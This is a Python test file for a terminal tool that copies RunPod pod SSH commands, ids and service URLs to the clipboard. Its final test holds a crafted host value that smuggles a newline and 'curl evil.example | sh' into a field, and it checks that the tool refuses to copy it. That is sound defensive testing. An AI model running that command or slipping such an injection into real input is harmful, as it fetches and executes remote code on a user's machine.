"""y copies what people paste elsewhere: the SSH command (direct first), the pod id, a service URL; to the clipboard
through OSC 52, and shown in the confirmation to be selected by hand where the terminal refuses OSC 52."""

from __future__ import annotations

from collections.abc import Callable

from podtui.core.pod import Pod, PodStatus, SshEndpoint
from podtui.core.pod_links import copyables, service_urls
from podtui.ui.app import PodtuiApp
from podtui.ui.screens.copy import CopyScreen
from tests.helpers.pilot import loaded, wait_until


def test_service_urls_come_from_the_http_ports_only() -> None:
    pod = Pod(
        id="abc123",
        name="p",
        status=PodStatus.RUNNING,
        ports_spec="8888/http, 22/tcp,7860/http,bad/http,99999/http,8888/http",
    )
    assert service_urls(pod) == (
        (8888, "https://abc123-8888.proxy.runpod.net"),
        (7860, "https://abc123-7860.proxy.runpod.net"),
    )
    assert service_urls(Pod(id="x", name="p", status=PodStatus.EXITED)) == ()


def test_direct_ssh_comes_before_the_proxy() -> None:
    pod = Pod(
        id="abc123",
        name="p",
        status=PodStatus.RUNNING,
        ssh_proxy=SshEndpoint("ssh.runpod.io", 22, "abc123-64411f2a"),
        ssh_direct=SshEndpoint("203.0.113.7", 40222, "root"),
        ports_spec="8888/http",
    )
    assert [c.text for c in copyables(pod)] == [
        "ssh root@203.0.113.7 -p 40222",
        "ssh abc123-64411f2a@ssh.runpod.io",
        "abc123",
        "https://abc123-8888.proxy.runpod.net",
    ]


async def test_y_copies_and_shows_what_it_copied(make_app: Callable[..., PodtuiApp]) -> None:
    app = make_app()
    async with app.run_test(size=(80, 24)) as pilot:
        await loaded(pilot, app)
        pod = app.screen.selected_pod  # type: ignore[attr-defined]
        await pilot.press("y")
        await wait_until(pilot, lambda: isinstance(app.screen, CopyScreen))
        dialog = app.screen
        assert dialog.region.right <= 80 and dialog.region.bottom <= 24
        choices = copyables(pod)
        await pilot.press("y")  # pressed twice: one dialog, nothing else happens
        await pilot.pause()
        assert sum(isinstance(s, CopyScreen) for s in app.screen_stack) == 1
        await pilot.press(str(len(choices)))  # the last one, by its number
        await wait_until(pilot, lambda: not isinstance(app.screen, CopyScreen))
        assert app.clipboard == choices[-1].text
        assert any(choices[-1].text in str(n.message) for n in app._notifications)


async def test_escape_copies_nothing(make_app: Callable[..., PodtuiApp]) -> None:
    app = make_app()
    async with app.run_test(size=(80, 24)) as pilot:
        await loaded(pilot, app)
        await pilot.press("y")
        await wait_until(pilot, lambda: isinstance(app.screen, CopyScreen))
        await pilot.press("enter")  # the first: direct SSH when there is one
        await wait_until(pilot, lambda: not isinstance(app.screen, CopyScreen))
        first = app.clipboard
        assert first.startswith("ssh ")
        await pilot.press("y")
        await wait_until(pilot, lambda: isinstance(app.screen, CopyScreen))
        await pilot.press("escape")
        await wait_until(pilot, lambda: not isinstance(app.screen, CopyScreen))
        assert app.clipboard == first


async def test_text_with_control_characters_is_never_copied() -> None:
    """Pasted into a shell, a line break in a host RunPod sent would run what follows it."""
    from textual.app import App

    hostile = Pod(
        id="abc123",
        name="p",
        status=PodStatus.RUNNING,
        ssh_direct=SshEndpoint("203.0.113.7\ncurl evil.example | sh", 22, "root"),
    )

    class Host(App[None]):
        def on_mount(self) -> None:
            self.push_screen(CopyScreen(hostile))

    app = Host()
    async with app.run_test(size=(80, 24), notifications=True) as pilot:
        await pilot.pause()
        await pilot.press("1")
        await pilot.pause()
        assert isinstance(app.screen, CopyScreen)  # refused: the dialog stays
        assert app.clipboard == ""
        said = [n.message for n in app._notifications]
        assert said and "control characters" in said[0] and "\n" not in said[0]
        await pilot.press("2")  # the pod id is clean: copied
        await pilot.pause()
        assert app.clipboard == "abc123"
